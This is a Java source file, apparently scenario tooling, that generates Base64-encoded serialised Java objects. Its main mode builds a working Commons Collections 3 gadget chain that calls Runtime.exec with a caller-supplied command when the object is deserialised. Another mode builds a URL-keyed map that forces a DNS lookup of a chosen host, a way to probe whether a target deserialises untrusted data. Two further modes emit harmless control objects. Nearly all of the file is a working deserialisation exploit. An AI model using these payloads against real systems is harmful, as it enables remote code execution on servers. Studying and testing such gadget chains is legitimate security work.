// SPDX-License-Identifier: GPL-2.0-or-later
// Writes serialised Java objects for the scenarios: chains of Commons Collections 3 whose reading runs a command or asks for a name.
import java.io.*;
import java.lang.reflect.Field;
import java.net.URL;
import java.util.*;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.*;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;

public class Gadget {
	static void set(Object o, Class<?> type, String name, Object value) throws Exception {
		Field f = type.getDeclaredField(name);
		f.setAccessible(true);
		f.set(o, value);
	}

	/* A set whose reading hashes an entry that looks a key up in a lazy map, which is made by the transformers. */
	static Object command(String[] words) throws Exception {
		Transformer[] steps = {
			new ConstantTransformer(Runtime.class),
			new InvokerTransformer("getMethod", new Class[] {String.class, Class[].class}, new Object[] {"getRuntime", new Class[0]}),
			new InvokerTransformer("invoke", new Class[] {Object.class, Object[].class}, new Object[] {null, new Object[0]}),
			new InvokerTransformer("exec", new Class[] {String[].class}, new Object[] {words}),
			new InvokerTransformer("waitFor", new Class[0], new Object[0]),
			new ConstantTransformer(1)};
		ChainedTransformer chain = new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
		Map<Object, Object> inner = new HashMap<>();
		TiedMapEntry entry = new TiedMapEntry(LazyMap.decorate(inner, chain), "k");
		HashSet<Object> outer = new HashSet<>();
		outer.add(entry);
		inner.clear();
		set(chain, ChainedTransformer.class, "iTransformers", steps);
		return outer;
	}

	public static void main(String[] a) throws Exception {
		Object o = switch (a[0]) {
		case "command" -> command(Arrays.copyOfRange(a, 1, a.length));
		case "plain" -> new ArrayList<>(List.of("kome", 31));
		case "map" -> new HashMap<>(Map.of("miso", 2));
		default -> {
			HashMap<Object, Object> map = new HashMap<>();
			URL url = new URL(a[1]);
			map.put(url, "x");
			set(url, URL.class, "hashCode", -1);
			yield map;
		}
		};
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		new ObjectOutputStream(out).writeObject(o);
		System.out.println(Base64.getEncoder().encodeToString(out.toByteArray()));
	}
}
